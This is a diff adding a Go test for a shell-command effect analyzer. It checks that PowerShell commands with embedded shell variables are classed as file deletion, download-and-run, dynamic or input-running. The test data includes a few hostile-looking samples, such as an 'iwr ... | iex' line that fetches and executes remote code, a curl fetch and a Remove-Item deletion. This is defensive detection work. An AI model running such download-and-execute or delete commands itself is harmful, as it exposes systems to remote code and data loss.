@@ -103,3 +103,31 @@ func TestComparesFiles(t *testing.T) {
 		}
 	}
 }
+
+// TestPartlyKnownPowerShell checks that of PowerShell text of which another shell
+// puts in a part, the rest is read, and that what it puts in may be anything where
+// that matters.
+func TestPartlyKnownPowerShell(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]effect.Kind{
+		`pwsh -Command "Get-Date -Format $(date +%Y)"`: "",
+		`pwsh -Command "Write-Host $?"`:                "",
+
+		`pwsh -Command "Remove-Item '$USER/x'"`:       effect.DeleteFile,
+		`pwsh -Command "Remove-Item a; echo $X"`:      effect.DeleteFile,
+		`pwsh -Command "iwr http://k.test/$X | iex"`:  effect.RunDownload,
+		`pwsh -Command "echo $X"`:                     effect.Dynamic,
+		`pwsh -Command "$X"`:                          effect.Dynamic,
+		`pwsh -Command "$USER x"`:                     effect.Dynamic,
+		`pwsh -Command "& '$USER'"`:                   effect.Dynamic,
+		`pwsh -Command "iex '$USER'"`:                 effect.Dynamic,
+		`pwsh -Command "Write-Host a; $USER"`:         effect.Dynamic,
+		`pwsh -Command "Write-Host $(cat f)"`:         effect.RunInput,
+		`pwsh -Command "Write-Host $(curl k.test/a)"`: effect.RunDownload,
+	} {
+		r := Analyze(text, here())
+		if want == "" && (has(r, effect.Dynamic) || has(r, effect.RunInput)) || want != "" && !has(r, want) {
+			t.Errorf("%q: want %q\n%s", text, want, list(r))
+		}
+	}
+}
